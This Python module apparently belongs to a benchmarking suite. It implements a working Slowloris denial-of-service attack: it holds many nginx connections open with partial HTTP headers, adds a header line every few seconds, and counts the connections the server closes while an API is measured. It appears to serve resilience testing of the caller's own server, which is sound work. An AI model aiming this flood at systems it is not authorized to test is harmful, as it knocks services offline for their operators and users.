"""Slowloris: many connections to nginx that send a request's headers a line at a time and never finish.

`attack()` holds them open in a background thread (an asyncio loop of its own) while the caller measures
the API; the connections a server closes are counted, and none is reopened, so the attack ends by itself
once nginx's client_header_timeout has closed them all or the caller stops it.
"""

from __future__ import annotations

import asyncio
import contextlib
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field

from bench.socketio_load import raise_fd_limit

DRIP_INTERVAL_S = 5.0
OPEN_CONCURRENCY = 100


@dataclass
class Attack:
    wanted: int
    opened: int = 0
    refused: int = 0
    closed_by_server: int = 0
    errors: list[str] = field(default_factory=list)

    def summary(self) -> dict[str, object]:
        return {
            "wanted": self.wanted,
            "opened": self.opened,
            "refused": self.refused,
            "closed_by_server": self.closed_by_server,
            "error_examples": sorted(set(self.errors))[:3],
        }


async def _hold(
    host: str, port: int, number: int, attack: Attack, gate: asyncio.Semaphore, stop: asyncio.Event
) -> None:
    try:
        async with gate:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), timeout=10)
    except (OSError, TimeoutError) as error:
        attack.refused += 1
        attack.errors.append(type(error).__name__)
        return
    attack.opened += 1
    try:
        writer.write(f"GET /?slow={number} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: bench-slowloris\r\n".encode())
        await writer.drain()
        while not stop.is_set():
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(stop.wait(), timeout=DRIP_INTERVAL_S)
            if stop.is_set():
                break
            if reader.at_eof():
                attack.closed_by_server += 1
                return
            writer.write(f"X-Slow-{number}: {int(time.time())}\r\n".encode())
            await writer.drain()
    except (ConnectionError, OSError):
        attack.closed_by_server += 1
    finally:
        writer.close()
        with contextlib.suppress(Exception):
            await writer.wait_closed()


@contextlib.contextmanager
def attack(host: str, connections: int, port: int = 80, settle_s: float = 3.0) -> Iterator[Attack]:
    """Slow connections held open for the duration of the block (opened first, then `settle_s` to settle)."""
    raise_fd_limit(connections + 256)
    state = Attack(wanted=connections)
    loop = asyncio.new_event_loop()
    stop = asyncio.Event()

    async def main() -> None:
        gate = asyncio.Semaphore(OPEN_CONCURRENCY)
        await asyncio.gather(*(_hold(host, port, n, state, gate, stop) for n in range(connections)))

    thread = threading.Thread(target=lambda: loop.run_until_complete(main()), name="slowloris", daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while state.opened + state.refused < connections and time.monotonic() < deadline:
        time.sleep(0.1)
    time.sleep(settle_s)
    try:
        yield state
    finally:
        loop.call_soon_threadsafe(stop.set)
        thread.join(timeout=DRIP_INTERVAL_S + 15)
        loop.close()
